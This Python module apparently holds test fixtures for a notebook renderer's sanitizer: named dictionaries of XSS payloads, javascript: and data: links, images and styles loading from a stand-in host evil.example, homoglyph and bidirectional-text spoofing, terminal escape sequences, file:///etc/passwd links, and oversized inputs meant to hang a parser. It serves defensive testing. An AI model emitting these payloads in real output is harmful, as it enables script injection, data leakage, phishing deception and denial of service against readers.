"""
What a model could answer to harm its reader: each text by name.

A script that ran would set `window.owned`. A request that was made would go to EVIL.
"""

EVIL = "https://evil.example"
OWN = "window.owned=1"
JS = f"javascript:{OWN}"
DATA = f"data:text/html,<script>parent.{OWN}</script>"
BIDI = "\u202e\u2066"

TAGS = {
    "script": f"<script>{OWN}</script>",
    "script in a paragraph": f"Well <script>{OWN}</script> then",
    "script from elsewhere": f'<script src="{EVIL}/x.js"></script>',
    "script in capitals": f"<ScRiPt>{OWN}</sCrIpT >",
    "script cut open": f"<scr<script>ipt>{OWN}</scr</script>ipt>",
    "script without an end": f"<script>{OWN}",
    "image with an event": f'<img src=x onerror="{OWN}">',
    "image from elsewhere": f'<img src="{EVIL}/x.png" srcset="{EVIL}/y.png 2x">',
    "event without quotes": f"<b onmouseover={OWN}>bold</b>",
    "details that open": f'<details open ontoggle="{OWN}"><summary>s</summary></details>',
    "body": f'<body onload="{OWN}">',
    "svg": f'<svg onload="{OWN}"><animate onbegin="{OWN}" attributeName=x dur=1s></svg>',
    "svg script": f"<svg><script>{OWN}</script></svg>",
    "svg link": f'<svg><a xlink:href="{JS}"><text y=9>x</text></a></svg>',
    "svg use": f'<svg><use href="{EVIL}/x.svg#a"/></svg>',
    "mathml": f'<math><mtext><a href="{JS}">x</a></mtext></math>',
    "mathml and style": f"<math><mtext><table><mglyph><style><img src=x onerror={OWN}>",
    "iframe": f'<iframe src="{EVIL}/"></iframe>',
    "iframe of a text": f'<iframe srcdoc="<script>parent.{OWN}</script>"></iframe>',
    "object and embed": f'<object data="{EVIL}/a"></object><embed src="{EVIL}/b">',
    "form": f'<form action="{EVIL}/"><input name=a autofocus onfocus="{OWN}"><button>Go</button>',
    "style element": f"<style>@import '{EVIL}/x.css'; body{{display:none}}</style>",
    "style attribute": f'<p style="position:fixed;inset:0;background:url({EVIL}/x)">over</p>',
    "meta refresh": f'<meta http-equiv="refresh" content="0;url={EVIL}/">',
    "base": f'<base href="{EVIL}/">',
    "link": f'<link rel="stylesheet" href="{EVIL}/x.css">',
    "video": f'<video poster="{EVIL}/x.png" src="{EVIL}/y" onerror="{OWN}" autoplay></video>',
    "comment": f"a <!-- <img src=x onerror={OWN}> --> b",
    "comment that ends early": f"<!--><img src=x onerror={OWN}>-->",
    "cdata": f"<![CDATA[<img src=x onerror={OWN}>]]>",
    "processing": f"<?xml version='1.0'?><!DOCTYPE html><img src=x onerror={OWN}>",
    "template and noscript": f'<noscript><p title="</noscript><img src=x onerror={OWN}>">',
    "closing tags": "</div></div></details></body></html><h1>outside</h1>",
    "textarea": f"</textarea></title><img src=x onerror={OWN}>",
    "an alert of ours": '<div role="alert" class="urisk alert error" id="x">Session ended</div>',
    "a toolbar of ours": '<div class="urisk-toolbar lm-Widget"><button>Trust</button></div>',
    "a command of JupyterLab": '<a data-commandlinker-command="apputils:reset" href="#">x</a>',
    "custom element": f"<urisk-x onclick={OWN}>x</urisk-x>",
    "table of HTML": f"<table><tr><td onclick={OWN}>x</td></tr></table>",
}
LINKS = {
    "javascript": f"[go]({JS})",
    "javascript in brackets": f"[go](<{JS}>)",
    "javascript with a title": f'[go]({JS} "title\\" onclick={OWN}")',
    "javascript by reference": f"[go][1]\n\n[1]: {JS}",
    "javascript by short reference": f"[go]\n\n[go]: {JS}",
    "javascript as autolink": f"<{JS}>",
    "javascript in capitals": f"[go](JaVaScRiPt:{OWN})",
    "javascript by entities": f"[go](&#106;avascript&colon;{OWN})",
    "javascript by a tab": f"[go](java&Tab;script:{OWN}) [go](<java\tscript:{OWN}>)",
    "javascript by percent": f"[go](javascript%3A{OWN})",
    "javascript behind a control": f"[go](\x01{JS}) [go](&#1;{JS})",
    "javascript behind a view": f"[go](view-source:{JS})",
    "vbscript": f"[go](vbscript:{OWN})",
    "data": f"[go](<{DATA}>) <data:text/html,x> ![x](<{DATA}>)",
    "data as a picture": "![x](data:image/svg+xml;base64,PHN2Zz48L3N2Zz4=)",
    "file": "[go](file:///etc/passwd) <file:///etc/passwd>",
    "relative": "[go](/lab/api) [go](../x) [go](x.ipynb) [go](?a) [go](//evil.example/x)",
    "inside the notebook": "[go](#cell-1) [go](attachment:x.png)",
    "picture": f"![words]({EVIL}/x.png)",
    "picture by reference": f"![words][1]\n\n[1]: {EVIL}/x.png",
    "picture in a link": f"[![words]({EVIL}/x.png)]({EVIL}/)",
    "quotes in the address": f'[go]({EVIL}/"onmouseover="{OWN}) <{EVIL}/"onclick="{OWN}>',
    "quotes in the words": f'["><img src=x onerror={OWN}>]({EVIL}/)',
    "another address than it says": f"[https://www.sec.gov]({EVIL}/www.sec.gov)",
    "a name before the host": "[go](https://www.sec.gov@evil.example/)",
    "letters that look alike": "<https://аpple.com/> [apple.com](https://аpple.com/)",
    "backslashes": "[go](https:\\\\evil.example) [go](http:evil.example) [go](https:///x)",
    "no address": "[go](http://[) [go](http://[::1) [go](http://) [go](mailto:)",
    "info of a code block": f'```"><script>{OWN}</script> onclick={OWN}\ncode\n```',
    "heading with an id": f"# Title {{#x onclick={OWN}}}\n\n<h2 id=x>y</h2>",
}
MATH = {
    "href": rf"$\href{{{JS}}}{{go}}$ $$\href{{{JS}}}{{go}}$$ \(\href{{{JS}}}{{go}}\)",
    "require": r"\[\require{html}\style{position:fixed}{x}\] $\unicode{x202e}$",
    "environment": r"\begin{equation}\def\x{\x\x}\x\end{equation}",
    "class": rf"$\class{{urisk}}{{\cssId{{x}}{{y}}}}$ $\includegraphics{{{EVIL}/x.png}}$",
    "over blocks": "It paid $5\n\nto $7, and \\\\(x\\\\) too; `$5 to $7` and\n\n    $5 to $7",
}
CHARACTERS = {
    "terminal": "\x1b[2J\x1b]52;c;ZXZpbA==\x07\x9b31m",
    "link of a terminal": f"\x1b]8;;{EVIL}/\x1b\\go\x1b]8;;\x1b\\",
    "bidi": f"safe{BIDI}txt.exe `{BIDI}` [{BIDI}]({EVIL}/{BIDI})",
    "bidi by entities": "safe&#x202e;&#8294;&rlm; `&#x202e;`",
    "zero width": "pay\u200bpal \ufeff \u2060 &ZeroWidthSpace; &#8203;",
    "nothing": "\x00a\x00<\x00script>&#0;",
    "half of a pair": "\ud83d alone [\udc00](http://a.example/\udfff)",
    "bytes that are no UTF-8": b"\xff\xfe\xc3( <b>".decode("utf-8", "surrogateescape"),
    "private use and tags": "\ue000\U000e0041",
    "line ends": f"a\r<script>\r{OWN}\r</script>\r\n\x0b\x0c\x85\u2028b",
    "a path": "/etc/hostname",
    "an address": f"{EVIL}/x.png www.evil.example file:///etc/passwd",
}
LONG = {
    "one line": "word " * 400_000,
    "one word": "a" * 2_000_000,
    "brackets": "[" * 50_000,
    "pictures": "![" * 50_000,
    "brackets in paragraphs": ("![" * 4_900 + "\n\n") * 10,
    "long words of links": ("[" + "a" * 9_900 + "](https://b.example)\n\n") * 10,
    "links in links": "[a](" * 25_000,
    "stars": "*_" * 50_000,
    "backticks": "".join("`" * number + " " for number in range(1, 400)),
    "quotes": ">" * 100_000,
    "lists": "- " * 50_000 + "a",
    "quotes in lines": ("> " * 50 + "a\n") * 900,
    "a list of lists": "".join(" " * 2 * number + "- a\n" for number in range(300)),
    "a table of many columns": "|" + "a|" * 20_000 + "\n|" + "-|" * 20_000 + "\n",
    "a table that is filled up": "|" + "a|" * 200 + "\n|" + "-|" * 200 + "\n" + "|b\n" * 20_000,
    "addresses of links": "".join(f"[a{number}]: http://x.example\n" for number in range(4_000)),
    "tags": "<a " * 33_000,
    "cdata": "<![CDATA[" * 11_000,
    "entities": "&#x202e;" * 12_000,
}
HOSTILE = {
    f"{group}: {name}": text
    for group, cases in {
        "tags": TAGS,
        "links": LINKS,
        "math": MATH,
        "characters": CHARACTERS,
    }.items()
    for name, text in cases.items()
}
